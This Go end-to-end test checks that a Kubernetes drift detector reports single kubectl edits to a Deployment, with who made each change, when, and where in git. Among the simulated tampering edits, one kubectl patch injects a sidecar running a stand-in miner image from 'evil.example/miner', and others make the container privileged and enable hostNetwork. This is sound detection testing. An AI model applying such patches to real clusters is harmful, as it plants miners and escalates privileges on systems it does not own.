package e2e

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/google/go-cmp/cmp/cmpopts"

	"plumbline.dev/plumbline/test/testenv"
)

const webDeployment = `apiVersion: apps/v1
kind: Deployment
metadata:
  name: web
  labels: {app: web}
spec:
  replicas: 1
  selector: {matchLabels: {app: web}}
  template:
    metadata: {labels: {app: web}}
    spec:
      containers:
      - name: web
        image: registry.example.com/web:1.0
        args: [--port=8080]
        env:
        - {name: MODE, value: production}
        - {name: LEVEL, value: info}
        ports: [{containerPort: 8080}]
`

// edit is one thing that a person does to a Deployment, and all that must be
// said about it.
type edit struct {
	name string
	do   func(t *testing.T, person testenv.User, namespace string)
	want jsonChange
	line int // where the declared value stands in web.yaml
}

func kubectl(args ...string) func(*testing.T, testenv.User, string) {
	return func(t *testing.T, person testenv.User, namespace string) {
		person.Kubectl(t, append([]string{"-n", namespace}, args...)...)
	}
}

func patch(text string) func(*testing.T, testenv.User, string) {
	return kubectl("patch", "deployment", "web", "-p", text)
}

// editor runs "kubectl edit" with an editor that replaces text.
func editor(old, new string) func(*testing.T, testenv.User, string) {
	return func(t *testing.T, person testenv.User, namespace string) {
		script := filepath.Join(t.TempDir(), "editor")
		text := fmt.Sprintf("#!/bin/sh\nsed -i 's|%s|%s|' \"$1\"\n", old, new)
		if err := os.WriteFile(script, []byte(text), 0o755); err != nil {
			t.Fatal(err)
		}
		t.Setenv("KUBE_EDITOR", script)
		person.Kubectl(t, "-n", namespace, "edit", "deployment", "web")
	}
}

const container = "spec.template.spec.containers[name=web]"

var edits = []edit{
	{"changed image", kubectl("set", "image", "deployment/web", "web=nginx:latest"),
		jsonChange{Path: container + ".image", Op: "modified", Declared: "registry.example.com/web:1.0", Live: "nginx:latest", Manager: "kubectl-set"}, 14},
	{"added env var", kubectl("set", "env", "deployment/web", "DEBUG=1"),
		jsonChange{Path: container + ".env[name=DEBUG]", Op: "added", Live: map[string]any{"name": "DEBUG", "value": "1"}, Manager: "kubectl-set"}, 0},
	{"added sidecar", patch(`{"spec":{"template":{"spec":{"containers":[{"name":"miner","image":"evil.example/miner"}]}}}}`),
		jsonChange{Path: "spec.template.spec.containers[name=miner]", Op: "added", Live: map[string]any{
			"name": "miner", "image": "evil.example/miner", "imagePullPolicy": "Always", "resources": map[string]any{},
			"terminationMessagePath": "/dev/termination-log", "terminationMessagePolicy": "File",
		}, Manager: "kubectl-patch"}, 0},
	{"privileged", patch(`{"spec":{"template":{"spec":{"containers":[{"name":"web","securityContext":{"privileged":true}}]}}}}`),
		jsonChange{Path: container + ".securityContext", Op: "added", Live: map[string]any{"privileged": true}, Manager: "kubectl-patch"}, 0},
	{"hostNetwork", patch(`{"spec":{"template":{"spec":{"hostNetwork":true}}}}`),
		jsonChange{Path: "spec.template.spec.hostNetwork", Op: "added", Live: true, Manager: "kubectl-patch"}, 0},
	{"added label", kubectl("label", "deployment", "web", "team=red"),
		jsonChange{Path: "metadata.labels.team", Op: "added", Live: "red", Manager: "kubectl-label"}, 0},
	{"added limits", kubectl("set", "resources", "deployment/web", "--limits=cpu=1"),
		jsonChange{Path: container + ".resources", Op: "added", Live: map[string]any{"limits": map[string]any{"cpu": "1"}}, Manager: "kubectl-set"}, 0},
	{"added toleration", patch(`{"spec":{"template":{"spec":{"tolerations":[{"key":"gpu","operator":"Exists"}]}}}}`),
		jsonChange{Path: "spec.template.spec.tolerations", Op: "added", Live: []any{map[string]any{"key": "gpu", "operator": "Exists"}}, Manager: "kubectl-patch"}, 0},
	{"added arg", editor("- --port=8080", "- --port=8080\\n        - --debug"),
		jsonChange{Path: container + ".args", Op: "modified", Declared: []any{"--port=8080"}, Live: []any{"--port=8080", "--debug"}, Manager: "kubectl-edit"}, 15},
	{"scaled", kubectl("scale", "deployment", "web", "--replicas=3"),
		jsonChange{Path: "spec.replicas", Op: "modified", Declared: 1.0, Live: 3.0, Manager: "kubectl", Subresource: "scale"}, 7},
	{"removed env var", kubectl("set", "env", "deployment/web", "LEVEL-"),
		jsonChange{Path: container + ".env[name=LEVEL]", Op: "removed", Declared: map[string]any{"name": "LEVEL", "value": "info"}}, 18},
}

// TestEdits makes each edit alone and wants exactly it reported, with who, when
// and where git says otherwise.
func TestEdits(t *testing.T) {
	deployer, person := env.User(t, "ci", masters), env.User(t, "mallory", masters)
	dir := write(t, map[string]string{"web.yaml": webDeployment})
	for i, e := range edits {
		t.Run(strings.ReplaceAll(e.name, " ", "-"), func(t *testing.T) {
			namespace := fmt.Sprintf("edits-%d", i)
			deployer.Kubectl(t, "create", "namespace", namespace)
			begin := time.Now().Add(-time.Second)
			deployer.Kubectl(t, "-n", namespace, "apply", "--server-side", "--field-manager=ci-deploy", "-f", dir)
			report, r := diff(t, person.Kubeconfig, dir, "-n", namespace)
			clean(t, report, r)

			e.do(t, person, namespace)
			report, r = diff(t, person.Kubeconfig, dir, "-n", namespace)
			if r.code != 1 || len(report.Findings) != 1 || len(report.Findings[0].Changes) != 1 {
				t.Fatalf("exit %d, want one change:\n%s%s", r.code, r.stdout, r.stderr)
			}
			f := report.Findings[0]
			got := f.Changes[0]
			checkTime(t, e, got, begin)
			if f.Rule != "drift/"+e.want.Op || f.Object.Name != "web" || f.Object.Namespace != namespace || f.Origin.File != "web.yaml" || f.Origin.Line != 1 {
				t.Errorf("the finding is %+v", f)
			}
			if got.Origin.Line != e.line {
				t.Errorf("the declared value is said to stand in line %d, want %d", got.Origin.Line, e.line)
			}
			ignored := cmpopts.IgnoreFields(jsonChange{}, "Time", "NotBefore", "Operation", "Origin")
			if d := cmp.Diff(e.want, got, ignored); d != "" {
				t.Errorf("change (-want +got):\n%s", d)
			}
			text := run(t, person.Kubeconfig, "diff", dir, "-n", namespace)
			if text.code != 1 || !strings.Contains(text.stdout, e.want.Path) || !strings.Contains(text.stdout, "1 change") {
				t.Errorf("exit %d, the text does not tell the change:\n%s", text.code, text.stdout)
			}
		})
	}
}

// checkTime wants the time of the edit, or, where the server records none (for a
// removal, and through the scale subresource), the deployment's before it.
func checkTime(t *testing.T, e edit, got jsonChange, begin time.Time) {
	t.Helper()
	text := got.Time
	if e.want.Op == "removed" || e.want.Subresource == "scale" {
		text = got.NotBefore
	}
	at, err := time.Parse(time.RFC3339, text)
	if err != nil || at.Before(begin.Truncate(time.Second)) || at.After(time.Now()) {
		t.Errorf("the change is said to be of %q, want a time within the test", text)
	}
}
